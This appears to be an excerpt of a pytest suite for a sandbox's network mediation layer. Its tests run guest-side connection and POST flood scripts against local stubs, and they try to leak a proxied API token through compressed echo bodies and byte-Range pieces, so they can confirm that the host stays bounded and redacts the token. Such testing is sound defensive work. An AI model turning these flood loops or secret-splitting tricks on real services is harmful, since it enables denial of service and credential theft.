    was hit); once the flooder lets go, requests work again. The host's
    thread count does not grow and its peak RSS stays within a budget.
    """
    reset = _reset_peak_rss()
    start = _proc_status()
    guarded.write_file("/tmp/flood.py", GUEST_FLOOD)
    flooder = guarded.spawn(["python3", "/tmp/flood.py", "8"])
    time.sleep(2)  # under way
    started = time.monotonic()
    during = guarded.exec(
        "curl -s -m 30 --retry 3 -o /dev/null -w '%{http_code}' http://api.test/during-flood",
        timeout=90,
    )
    latency = []
    for _ in range(5):
        t = time.monotonic()
        assert guarded.exec("true").returncode == 0
        latency.append(time.monotonic() - t)
    status = flooder.wait(120)
    flood_out, flood_err = bytearray(), bytearray()
    while (chunk := flooder.read(30)) is not None:
        (flood_out if chunk[0] == "stdout" else flood_err).extend(chunk[1])
    assert status == 0, flood_err.decode(errors="replace")
    counts = json.loads(flood_out.decode().strip())
    assert during.stdout == "200", during.stdout + during.stderr
    assert time.monotonic() - started < 60
    assert max(latency) < 5.0, latency
    assert counts["syn"] > 1000 and counts["udp"] > 1000, counts  # a flood, even on a busy host
    assert "/during-flood" in upstreams.plain.tally.paths()

    # Connection flood: 400 sockets opened and held; the stack caps live flows.
    code = (
        "import json, socket\n"
        "held, refused = [], 0\n"
        "for i in range(400):\n"
        "    try:\n"
        "        held.append(socket.create_connection(('api.test', 80), timeout=5))\n"
        "    except OSError:\n"
        "        refused += 1\n"
        "print(json.dumps({'held': len(held), 'refused': refused}))\n"
    )
    held = py(guarded, code, timeout=180)
    assert held["refused"] > 0 and held["held"] <= 256 + 8, held
    assert guarded.network is not None
    assert guarded.network.counters.get("drop.tcp-flow-limit", 0) > 0
    after = guarded.exec(
        "curl -s -m 30 --retry 5 --retry-connrefused -o /dev/null -w '%{http_code}' "
        "http://api.test/after-flood",
        timeout=120,
    )
    assert after.stdout == "200", after.stdout + after.stderr
    end = _proc_status()
    # The driver's fixed upstream pool may have started its threads; nothing per flow.
    assert end["Threads"] <= start["Threads"] + DriverLimits().upstream_workers, (start, end)
    if reset:
        assert end["VmHWM"] - start["VmRSS"] < FLOOD_RSS_BUDGET_KIB, (start, end)


# --------------------------------------------------------------------------- coded echoes

GUEST_CODED = r"""
import json, os, sys, urllib.request, zlib

def every_decoding(raw):
    out = [raw]
    for wbits in (31, 15, -15):
        try:
            out.append(zlib.decompressobj(wbits).decompress(raw))
        except zlib.error:
            pass
    return out

req = urllib.request.Request(
    "http://api.test/deflate",
    headers={"Accept-Encoding": "deflate", "Authorization": "Bearer " + os.environ["P"]},
)
with urllib.request.urlopen(req, timeout=30) as resp:
    raw = resp.read()
    coding = resp.headers.get("Content-Encoding")
print(json.dumps({
    "status": resp.status,
    "coding": coding,
    "decodings": [d.decode("latin-1") for d in every_decoding(raw)],
}))
"""


def test_secret_echoed_in_a_coded_body_reaches_the_guest_as_the_placeholder(vm: VM) -> None:
    """``curl --compressed`` and urllib with ``Accept-Encoding: deflate`` against a coded echo.

    The upstream compresses its echo of the request headers whatever the
    request asked for (gzip on /gzip, zlib deflate on /deflate). The host
    sends secret-carrying requests with ``Accept-Encoding: identity``,
    decodes what comes back anyway, and redacts: the guest (raw bytes, and
    every decoding it might try) and the records hold only the
    placeholder, and the upstream got the real value exactly once per
    request. Negative control: the same upstream, asked directly with the
    real value, answers with a coded body that does hold it once decoded.
    """
    import gzip
    import http.server
    import zlib

    seen: list[dict[str, str]] = []

    class CodedEcho(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            headers = dict(self.headers.items())
            seen.append(headers)
            payload = json.dumps({"headers": headers}).encode()
            coded = gzip.compress(payload) if self.path == "/gzip" else zlib.compress(payload)
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Encoding", "gzip" if self.path == "/gzip" else "deflate")
            self.send_header("Content-Length", str(len(coded)))
            self.end_headers()
            self.wfile.write(coded)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), CodedEcho)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        port = server.server_address[1]
        # Negative control, from the host: the echo comes back coded, with the value inside.
        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
            s.sendall(
                f"GET /gzip HTTP/1.1\r\nHost: api.test\r\nAccept-Encoding: gzip\r\n"
                f"Authorization: Bearer {REAL_TOKEN}\r\nConnection: close\r\n\r\n".encode()
            )
            reply = b""
            while chunk := s.recv(65536):
                reply += chunk
        head, _, coded_body = reply.partition(b"\r\n\r\n")
        assert b"Content-Encoding: gzip" in head
        assert REAL_TOKEN.encode() not in coded_body  # byte redaction alone would miss it
        assert REAL_TOKEN.encode() in gzip.decompress(coded_body)
        seen.clear()

        vm.configure_network(
            NetworkPolicy.from_options(
                allow_hosts=["api.test"],
                resolve={"api.test:80": f"127.0.0.1:{port}"},
                secrets={"API_TOKEN": Secret(value=REAL_TOKEN, hosts=["api.test"])},
            )
        )
        placeholder = vm.secret_env()["API_TOKEN"]
        env = {**GUEST_ENV, "P": placeholder}
        curl = vm.exec(
            'curl -s -m 30 --compressed -D - -H "Authorization: Bearer $P" http://api.test/gzip',
            env=env,
            timeout=90,
        )
        assert curl.returncode == 0, curl.stdout + curl.stderr
        vm.write_file("/tmp/coded.py", GUEST_CODED)
        urllib_out = vm.exec(["python3", "/tmp/coded.py"], env=env, timeout=90)
        assert urllib_out.returncode == 0, urllib_out.stdout + urllib_out.stderr
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)

    for text in [curl.stdout, curl.stderr, urllib_out.stdout, urllib_out.stderr]:
        assert REAL_TOKEN not in text
    # curl: the decoded echo with the placeholder, and no Content-Encoding left to undo
    curl_head, _, curl_body = curl.stdout.partition("\r\n\r\n")
    assert "content-encoding" not in curl_head.lower(), curl_head
    assert json.loads(curl_body)["headers"]["Authorization"] == f"Bearer {placeholder}"
    # urllib does not decode: the raw body (and every decoding of it) holds only the placeholder
    got = json.loads(urllib_out.stdout.strip().splitlines()[-1])
    assert (got["status"], got["coding"]) == (200, None), got
    assert json.loads(got["decodings"][0])["headers"]["Authorization"] == f"Bearer {placeholder}"
    # upstream: each request had the value exactly once, and was asked not to code it
    assert len(seen) == 2, seen
    for headers in seen:
        assert json.dumps(headers).count(REAL_TOKEN) == 1, headers
        assert headers["Authorization"] == f"Bearer {REAL_TOKEN}"
        assert headers["Accept-Encoding"] == "identity"
    # the records: what the guest asked for (compression, placeholder), never the value
    assert vm.http is not None
    records = vm.http.get_requests(host="api.test")
    assert [r.path for r in records] == ["/gzip", "/deflate"]
    assert "gzip" in (records[0].request_header("Accept-Encoding") or "")
    assert records[1].request_header("Accept-Encoding") == "deflate"
    assert REAL_TOKEN not in vm.http.to_json()


GUEST_POST_FLOOD = r"""
import http.client, json, sys, time

stop = time.monotonic() + float(sys.argv[1])
body = bytes(range(256)) * 4096  # 1 MiB, not text
sent = 0
while time.monotonic() < stop:
    conn = http.client.HTTPConnection("flood.test", 80, timeout=60)
    for _ in range(50):  # keep-alive, as a client library would
        conn.request("POST", "/x", body=body)
        response = conn.getresponse()
        assert (response.status, response.read()) == (200, b"ok")
        sent += 1
        if time.monotonic() >= stop:
            break
    conn.close()
print(json.dumps({"requests": sent}))
"""

#: Host memory a flood of 1 MiB POSTs may cost: the recorder's whole budget
#: (48 MiB, of which 32 MiB with bodies) plus 16 MiB for bodies in flight.
HTTP_FLOOD_RSS_BUDGET_KIB = 64 * 1024


def test_post_flood_to_a_stub_keeps_host_memory_bounded(vm: VM) -> None:
    """~10 s of 1 MiB POSTs to a stub (hundreds of MiB): the host's peak RSS grows < 64 MiB.

    Every request is recorded; past the recorder's 32 MiB budget without its
    bodies (``bodies_dropped``). Negative control: the same flood, shorter,
    into a recorder without a budget raises the peak by at least 64 MiB.
    """
    from pytest_gondolin.netpolicy.http.recorder import Recorder

    if not _reset_peak_rss():
        pytest.skip("cannot reset the peak RSS (/proc/self/clear_refs)")
    assert vm.http is not None and vm.network is not None
    body = bytes(range(256)) * 4096
    vm.http.stub("*", "http://flood.test/x", body=b"ok")
    vm.write_file("/tmp/post_flood.py", GUEST_POST_FLOOD)
    _reset_peak_rss()
    start = _proc_status()
    r = vm.exec(["python3", "/tmp/post_flood.py", "10"], timeout=120)
    flood = _proc_status()
    assert r.returncode == 0, r.stderr
    sent = json.loads(r.stdout)["requests"]
    assert sent >= 80, sent  # well past the budget
    assert flood["VmHWM"] - start["VmRSS"] < HTTP_FLOOD_RSS_BUDGET_KIB, (sent, start, flood)
    recorded = vm.http.get_requests(method="POST", url="http://flood.test/x")
    assert len(recorded) == sent and {e.decision for e in recorded} == {"stubbed"}
    whole = [e for e in recorded if not e.bodies_dropped]
    assert 28 <= len(whole) <= 32 and whole == recorded[: len(whole)]
    assert all(e.request_body == body and e.response_body == b"ok" for e in whole)
    for e in recorded[len(whole) :]:
        assert (e.request_body, e.response_body) == (b"", b"")
        assert e.request_body_truncated and e.request_header("Content-Length") == str(len(body))

    # Negative control: no budget, 4 s of the same flood.
    unbounded = Recorder(body_budget=1 << 40, max_bytes=1 << 40)
    unbounded.stub("*", "http://flood.test/x", body=b"ok")
    vm.network.configure(vm.network.policy, None, unbounded)
    try:
        _reset_peak_rss()
        base = _proc_status()
        r = vm.exec(["python3", "/tmp/post_flood.py", "4"], timeout=120)
        control = _proc_status()
        assert r.returncode == 0, r.stderr
        kept = sum(len(e.request_body) for e in unbounded.requests)
        assert kept >= 64 << 20, kept
        assert control["VmHWM"] - base["VmRSS"] >= 64 * 1024, (kept, base, control)
    finally:
        vm.configure_network()
        unbounded.clear()


# --------------------------------------------------------------------------- ranges

GUEST_RANGES = r"""
import json, os, urllib.request

def get(spec):
    req = urllib.request.Request(
        "http://api.test/echo", headers={"X-Tok": os.environ["P"], "Range": spec}
    )
    with urllib.request.urlopen(req, timeout=30) as resp:
        return [resp.status, resp.headers.get("Content-Type", ""), resp.read().decode("latin-1")]

size = int(os.environ["N"])
print(json.dumps({
    "pieces": [get(f"bytes={i}-{i + 7}") for i in range(0, size, 8)],
    "multi": get("bytes=5-14,15-60"),
}))
"""


def test_secret_cannot_be_read_in_pieces_with_range(vm: VM) -> None:
    """An honest echo upstream that supports Range: 8-byte pieces, then one multi-range.

    Without mediation the pieces, joined, are the value, and the
    ``multipart/byteranges`` answer splits it (``tok_Abc123`` |
    ``SECRETvalue789:end``) so no part holds it whole (negative control,
    from the host). Through the host the upstream never sees ``Range``:
    every guest request gets the whole body, redacted, with the
    placeholder; the joined pieces and curl's multi-range answer hold no
    part of the value, and neither do the records.
    """
    import http.server

    value = "tok_Abc123SECRETvalue789"
    seen: list[dict[str, str]] = []

    class RangeEcho(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            seen.append(dict(self.headers.items()))
            body = f"echo:{self.headers.get('X-Tok', '')}:end".encode("latin-1")
            spans = []
            spec = self.headers.get("Range", "")
            if spec.startswith("bytes="):
                for part in spec[6:].split(","):
                    first, _, last = part.partition("-")
                    spans.append((int(first), min(len(body) - 1, int(last))))
            if not spans:
                status, kind, payload, extra = 200, "text/plain", body, []
            elif len(spans) == 1:
                (first, last), status, kind = spans[0], 206, "text/plain"
                payload = body[first : last + 1]
                extra = [("Content-Range", f"bytes {first}-{last}/{len(body)}")]
            else:
                status, kind, extra = 206, "multipart/byteranges; boundary=B", []
                payload = (
                    b"".join(
                        b"--B\r\nContent-Range: bytes %d-%d/%d\r\n\r\n%s\r\n"
                        % (first, last, len(body), body[first : last + 1])
                        for first, last in spans
                    )
                    + b"--B--\r\n"
                )
            self.send_response(status)
            self.send_header("Content-Type", kind)
            self.send_header("Accept-Ranges", "bytes")
            for name, field in extra:
                self.send_header(name, field)
            self.send_header("Content-Length", str(len(payload)))
            self.end_headers()
            self.wfile.write(payload)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    def direct(port: int, spec: str) -> bytes:
        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
            s.sendall(
                f"GET /echo HTTP/1.1\r\nHost: api.test\r\nX-Tok: {value}\r\n"
                f"Range: {spec}\r\nConnection: close\r\n\r\n".encode()
            )
            reply = b""
            while chunk := s.recv(65536):
                reply += chunk
        return reply

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), RangeEcho)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    size = len(f"echo:{value}:end")
    try:
        port = server.server_address[1]
        # Negative control, from the host: the pieces are the value, no piece holds it.
        pieces = [direct(port, f"bytes={i}-{i + 7}") for i in range(0, size, 8)]
        assert all(p.startswith(b"HTTP/1.1 206") for p in pieces), pieces[0][:40]
        joined = b"".join(p.partition(b"\r\n\r\n")[2] for p in pieces)
        assert value.encode() in joined
        assert not any(value.encode() in p for p in pieces)
        multi = direct(port, "bytes=5-14,15-60")
        assert b"\r\n\r\ntok_Abc123\r\n" in multi and b"\r\n\r\nSECRETvalue789:end\r\n" in multi
        assert value.encode() not in multi
        seen.clear()

        vm.configure_network(
            NetworkPolicy.from_options(
                allow_hosts=["api.test"],
                resolve={"api.test:80": f"127.0.0.1:{port}"},
                secrets={"TOK": Secret(value=value, hosts=["api.test"])},
            )
        )
        placeholder = vm.secret_env()["TOK"]
        env = {**GUEST_ENV, "P": placeholder, "N": str(size)}
        vm.write_file("/tmp/ranges.py", GUEST_RANGES)
        script = vm.exec(["python3", "/tmp/ranges.py"], env=env, timeout=120)
        assert script.returncode == 0, script.stdout + script.stderr
        curl = vm.exec(
            'curl -s -m 30 -D - -H "X-Tok: $P" -H "Range: bytes=5-14,15-60" http://api.test/echo',
            env=env,
            timeout=90,
        )
        assert curl.returncode == 0, curl.stdout + curl.stderr
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)

    got = json.loads(script.stdout.strip().splitlines()[-1])
    whole = f"echo:{placeholder}:end"
    for status, kind, body in [*got["pieces"], got["multi"]]:
        assert (status, kind, body) == (200, "text/plain", whole)
    guest_text = script.stdout + script.stderr + curl.stdout + curl.stderr
    assert curl.stdout.startswith("HTTP/1.1 200"), curl.stdout[:200]
    assert curl.stdout.endswith(whole), curl.stdout[-200:]
    for secret_part in (value, "tok_Abc123", "SECRETvalue789", value[8:16]):
        assert secret_part not in guest_text
    assert "".join(body for _, _, body in got["pieces"]).count(value) == 0
    # upstream: every request had the value, none had a Range
    assert len(seen) == len(got["pieces"]) + 2, len(seen)
    for headers in seen:
        assert headers["X-Tok"] == value and "Range" not in headers, headers
    # records: the guest's Range, never the value or a piece of it
    assert vm.http is not None
    records = vm.http.get_requests(host="api.test")
    assert len(records) == len(seen)
    assert all((r.request_header("Range") or "").startswith("bytes=") for r in records)
    recorded = vm.http.to_json()
    assert value not in recorded and "tok_Abc123" not in recorded
